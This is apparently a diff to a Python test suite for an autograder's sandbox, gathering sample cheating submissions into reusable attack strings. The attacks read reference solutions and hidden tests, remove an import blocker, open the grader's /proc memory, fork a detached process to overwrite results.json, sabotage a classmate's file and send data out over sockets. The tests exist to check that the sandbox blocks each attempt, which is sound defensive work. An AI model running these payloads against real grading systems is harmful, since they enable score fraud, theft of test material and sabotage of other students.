@@ -102,33 +102,20 @@ def _read(rel):
 """
 
 
-def _assert_refused(report, words):
-    assert any(words in n for n in report.refused), report.refused
-    assert any(words in r.output for r in report.tests)  # the student reads it in the feedback
-
-
-def test_reading_the_reference_solution_by_path(tmp_path, template, grading_mode):
-    attack = (
-        FIND
-        + """
+# ---- the attacks, each appended to a template (also graded through the Gradescope bundle)
+ATTACK_REFERENCE = (
+    FIND
+    + """
 _path, _src = _read("ekf/ekf.py")
 if _src:
     exec(compile(_src, _path, "exec"), globals())
 """
-    )
-    sub = _submission(tmp_path, template["ekf"], attack)
-    assert _scores_without_sandbox(sub) == 2  # without the sandbox the attack works
-    report = grade_submission(EKF, sub)
-    assert report.score == 0, report.summary()
-    assert report.sandbox == find_sandbox().kind and report.sandbox.startswith(grading_mode)
-    _assert_refused(report, f"open {ASSIGNMENTS}/ekf/ekf.py: ")  # outside the submission, or (a clone
-    # under /tmp) outside the sandbox
+)
 
 
-def test_reading_the_graded_tests_and_using_their_oracles(tmp_path, template, grading_mode):
-    attack = (
-        FIND
-        + """
+ATTACK_GRADED_TESTS = (
+    FIND
+    + """
 import types
 
 _path, _src = _read("ekf/hidden_tests.py")
@@ -153,16 +140,10 @@ if _src:
     measurement_jacobian = lambda X, b: _g["C_fd"](np.asarray(X), np.asarray(b))
     kalman_update = lambda *a: _g["kalman_ref"](*map(np.asarray, a))
 """
-    )
-    sub = _submission(tmp_path, template["ekf"], attack)
-    assert _scores_without_sandbox(sub) == 2
-    report = grade_submission(EKF, sub)
-    assert report.score == 0, report.summary()
-    _assert_refused(report, f"open {ASSIGNMENTS}/ekf/hidden_tests.py: ")
+)
 
 
-def test_importing_the_course_library_past_the_import_blocker(tmp_path, template, grading_mode):
-    attack = """
+ATTACK_IMPORT_LAB = """
 import importlib, pkgutil, sys
 
 sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_NoLab"]  # remove the blocker
@@ -184,6 +165,126 @@ if lab is not None:  # wherever the library keeps its estimation code
             if hasattr(_mod, _f):
                 globals()[_f] = getattr(_mod, _f)
 """
+
+
+def attack_proc_mem(grader) -> str:
+    return f"""
+import os
+
+_opened = []
+for _pid in dict.fromkeys([os.getppid(), {grader}] + [int(p) for p in os.listdir("/proc") if p.isdigit()]):
+    if _pid == os.getpid():
+        continue
+    try:
+        with open(f"/proc/{{_pid}}/mem", "r+b") as _f:
+            _opened.append(_pid)  # here it would patch the score of a failed test
+    except OSError:
+        pass
+print("opened the memory of", _opened)
+"""
+
+
+def attack_detached(results) -> str:
+    fake = json.dumps({"score": 6.0, "tests": []})
+    return f"""
+import os, time
+
+def _detach():
+    try:
+        pid = os.fork()
+    except OSError as e:
+        print("fork refused:", e)
+        return
+    if pid == 0:
+        os.setsid()  # leave the process group the grader kills
+        if os.fork() == 0:
+            time.sleep(1.0)  # until the grader has written results.json
+            try:
+                with open({str(results)!r}, "w") as f:
+                    f.write({fake!r})
+            except OSError:
+                pass
+        os._exit(0)
+
+_detach()
+"""
+
+
+def attack_classmate(bob) -> str:
+    return f"""
+_bob = {str(bob / "stereo.py")!r}
+try:
+    with open(_bob) as _f:
+        _theirs = _f.read()
+    exec(compile(_theirs, _bob, "exec"), globals())  # use bob's solution
+    with open(_bob, "w") as _f:
+        _f.write("raise SystemExit")  # and break his file before he is graded
+except OSError as e:
+    print("could not reach bob:", e)
+"""
+
+
+def attack_network(port) -> str:
+    return f"""
+import socket
+
+def _send_out(what):
+    for addr in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
+        try:
+            s = socket.create_connection(addr, timeout=1)
+            s.sendall(what.encode())
+            s.close()
+        except OSError as e:
+            print("no connection to", addr, e)
+
+_send_out("the graded tests would go here")
+
+def depth_std(Z, f, baseline, sigma_disparity):
+    _send_out("arguments of a graded test: " + repr((Z, f, baseline, sigma_disparity)))
+    raise NotImplementedError
+"""
+
+
+def every_attack(grader: int, results, bob, port: int) -> dict[str, str]:
+    """Every attack above by name, for one grading run's values (the Gradescope bundle's test)."""
+    return {
+        "reference_solution_by_path": ATTACK_REFERENCE,
+        "graded_tests_and_their_oracles": ATTACK_GRADED_TESTS,
+        "import_lab_past_the_blocker": ATTACK_IMPORT_LAB,
+        "graders_memory_through_proc": attack_proc_mem(grader),
+        "detached_process_rewrites_results": attack_detached(results),
+        "classmates_folder": attack_classmate(bob),
+        "network_connection": attack_network(port),
+    }
+
+
+def _assert_refused(report, words):
+    assert any(words in n for n in report.refused), report.refused
+    assert any(words in r.output for r in report.tests)  # the student reads it in the feedback
+
+
+def test_reading_the_reference_solution_by_path(tmp_path, template, grading_mode):
+    attack = ATTACK_REFERENCE
+    sub = _submission(tmp_path, template["ekf"], attack)
+    assert _scores_without_sandbox(sub) == 2  # without the sandbox the attack works
+    report = grade_submission(EKF, sub)
+    assert report.score == 0, report.summary()
+    assert report.sandbox == find_sandbox().kind and report.sandbox.startswith(grading_mode)
+    _assert_refused(report, f"open {ASSIGNMENTS}/ekf/ekf.py: ")  # outside the submission, or (a clone
+    # under /tmp) outside the sandbox
+
+
+def test_reading_the_graded_tests_and_using_their_oracles(tmp_path, template, grading_mode):
+    attack = ATTACK_GRADED_TESTS
+    sub = _submission(tmp_path, template["ekf"], attack)
+    assert _scores_without_sandbox(sub) == 2
+    report = grade_submission(EKF, sub)
+    assert report.score == 0, report.summary()
+    _assert_refused(report, f"open {ASSIGNMENTS}/ekf/hidden_tests.py: ")
+
+
+def test_importing_the_course_library_past_the_import_blocker(tmp_path, template, grading_mode):
+    attack = ATTACK_IMPORT_LAB
     sub = _submission(tmp_path, template["ekf"], attack)
     assert _scores_without_sandbox(sub) == 2
     report = grade_submission(EKF, sub)
@@ -215,20 +316,7 @@ def test_a_module_that_is_not_a_regular_file_is_refused(tmp_path, kind, any_mode
 
 def test_writing_the_graders_memory_through_proc(tmp_path, template, grading_mode):
     grader = os.getpid()
-    attack = f"""
-import os
-
-_opened = []
-for _pid in dict.fromkeys([os.getppid(), {grader}] + [int(p) for p in os.listdir("/proc") if p.isdigit()]):
-    if _pid == os.getpid():
-        continue
-    try:
-        with open(f"/proc/{{_pid}}/mem", "r+b") as _f:
-            _opened.append(_pid)  # here it would patch the score of a failed test
-    except OSError:
-        pass
-print("opened the memory of", _opened)
-"""
+    attack = attack_proc_mem(grader)
     report = grade_submission(STEREO, _submission(tmp_path, template["stereo"], attack, module="stereo.py"))
     assert report.score == 0
     assert "opened the memory of []" in report.tests[0].output, report.tests[0].output
@@ -239,29 +327,7 @@ print("opened the memory of", _opened)
 
 def test_a_detached_process_cannot_rewrite_results_after_the_grader(tmp_path, template, grading_mode):
     results = tmp_path / "results" / "results.json"
-    fake = json.dumps({"score": 6.0, "tests": []})
-    attack = f"""
-import os, time
-
-def _detach():
-    try:
-        pid = os.fork()
-    except OSError as e:
-        print("fork refused:", e)
-        return
-    if pid == 0:
-        os.setsid()  # leave the process group the grader kills
-        if os.fork() == 0:
-            time.sleep(1.0)  # until the grader has written results.json
-            try:
-                with open({str(results)!r}, "w") as f:
-                    f.write({fake!r})
-            except OSError:
-                pass
-        os._exit(0)
-
-_detach()
-"""
+    attack = attack_detached(results)
     sub = _submission(tmp_path, template["stereo"], attack, module="stereo.py")
     assert main(["grade", "stereo", str(sub), "--json", str(results), "--quiet"]) == 0
     written = results.read_text()
@@ -318,17 +384,7 @@ def test_batch_a_student_cannot_read_or_break_a_classmates_folder(tmp_path, temp
     bob.mkdir(parents=True)
     (bob / "stereo.py").write_bytes(STEREO.module_path.read_bytes())
     before = hashlib.sha256((bob / "stereo.py").read_bytes()).hexdigest()
-    attack = f"""
-_bob = {str(bob / "stereo.py")!r}
-try:
-    with open(_bob) as _f:
-        _theirs = _f.read()
-    exec(compile(_theirs, _bob, "exec"), globals())  # use bob's solution
-    with open(_bob, "w") as _f:
-        _f.write("raise SystemExit")  # and break his file before he is graded
-except OSError as e:
-    print("could not reach bob:", e)
-"""
+    attack = attack_classmate(bob)
     _submission(klass, template["stereo"], attack, name="alice", module="stereo.py")  # graded first
     scores, each = tmp_path / "scores.csv", tmp_path / "each"
     assert (
@@ -348,24 +404,7 @@ def test_no_network_connection_leaves_the_sandbox(tmp_path, template, grading_mo
     server.listen(8)
     server.setblocking(False)
     port = server.getsockname()[1]
-    attack = f"""
-import socket
-
-def _send_out(what):
-    for addr in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
-        try:
-            s = socket.create_connection(addr, timeout=1)
-            s.sendall(what.encode())
-            s.close()
-        except OSError as e:
-            print("no connection to", addr, e)
-
-_send_out("the graded tests would go here")
-
-def depth_std(Z, f, baseline, sigma_disparity):
-    _send_out("arguments of a graded test: " + repr((Z, f, baseline, sigma_disparity)))
-    raise NotImplementedError
-"""
+    attack = attack_network(port)
     stereo = STEREO
     sub = _submission(tmp_path, template["stereo"], attack, module="stereo.py")
 
